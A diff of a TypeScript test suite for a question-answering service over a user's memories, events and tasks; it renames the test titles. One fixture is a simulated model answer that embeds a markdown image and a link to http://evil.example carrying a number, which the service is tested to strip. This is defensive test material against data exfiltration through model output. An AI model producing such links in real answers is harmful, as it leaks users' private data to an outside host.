@@ -26,7 +26,7 @@ async function tell(service: TestService, text: string, started_at: string): Pro
   return body.id;
 }
 
-test('without a model it quotes, and says so', async () => {
+test('without a model the answer quotes the sources and says so', async () => {
   const clock = new ManualClock('2026-03-05T10:00:00Z');
   await using service = await startService({ clock });
   const key = await service.owner.key(EVERYTHING);
@@ -76,7 +76,7 @@ test('without a model it quotes, and says so', async () => {
   assert.deepEqual(called.result.structuredContent, partial.body);
 });
 
-test('a day in the question means the day of who asks, and tasks are listed', async () => {
+test("days in a question are in the user's time zone, and tasks are listed", async () => {
   const clock = new ManualClock('2026-03-05T10:00:00Z');
   await using service = await startService({ clock });
   const key = await service.owner.key(EVERYTHING);
@@ -111,7 +111,7 @@ test('a day in the question means the day of who asks, and tasks are listed', as
   assert.match(body.answer, /Paint the oars, due 9 March 2026/);
 });
 
-test('when something is, is answered from events, and gone with their conversation', async () => {
+test('a question about a date is answered from events until their conversation is deleted', async () => {
   const clock = new ManualClock('2026-03-03T10:00:00Z');
   await using service = await startService({ clock });
   const key = await service.owner.key(EVERYTHING);
@@ -144,7 +144,7 @@ test('when something is, is answered from events, and gone with their conversati
   assert.doesNotMatch((await ask('When is my dentist appointment?')).answer, /6 March 2026 at/);
 });
 
-test('a model answers from what was found; its made-up sources are dropped', async () => {
+test('a model answers from the search results, and invented sources are dropped', async () => {
   await using model = await startLanguageModel((request, response) => {
     const asked = JSON.stringify(request.messages);
     const [, memory] = /Memory \[(\d+)\]: Owns/.exec(asked) ?? [];
@@ -187,7 +187,7 @@ test('a model answers from what was found; its made-up sources are dropped', asy
   );
 });
 
-test('a model gives nothing away by an address, and several numbers in one mark are several', async () => {
+test("invented addresses are removed from a model's answer, and '[1, 2]' counts as two citations", async () => {
   const answer =
     'Nine hundred euros [2, 1, 7]. ![x](http://evil.example/leak?d=900) See ' +
     '[it](//evil.example/900), http://porto.example/roof.';
@@ -215,7 +215,7 @@ test('a model gives nothing away by an address, and several numbers in one mark 
   assert.match(text, /^Nine hundred euros\. +See it, http/);
 });
 
-test('a model that has no time in time is not waited for', async () => {
+test('a model that is too slow is not awaited', async () => {
   await using model = await startLanguageModel((_, response) =>
     response.writeHead(429, { 'Retry-After': '3600' }).end('{}'),
   );
@@ -230,7 +230,7 @@ test('a model that has no time in time is not waited for', async () => {
   assert.ok(performance.now() - asked < 5_000, 'it was asked again after some seconds');
 });
 
-test('when the model fails the answer quotes', async () => {
+test('when the model fails, the answer quotes the sources', async () => {
   await using model = await startLanguageModel((_, response) => refuse(response, 500));
   await using service = await startService({
     environment: { SVC_LLM_BASE_URL: model.baseUrl, SVC_LLM_MODEL: 'test' },
@@ -242,7 +242,7 @@ test('when the model fails the answer quotes', async () => {
   assert.match(body.answer, /“The roof costs nine hundred euros/);
 });
 
-test('a question that names no matter is answered by what it asks for, and by nothing else', async () => {
+test('a question without a topic is answered only by the kind of data that it asks for', async () => {
   const clock = new ManualClock('2026-03-05T10:00:00Z');
   await using service = await startService({ clock });
   const key = await service.owner.key(EVERYTHING);
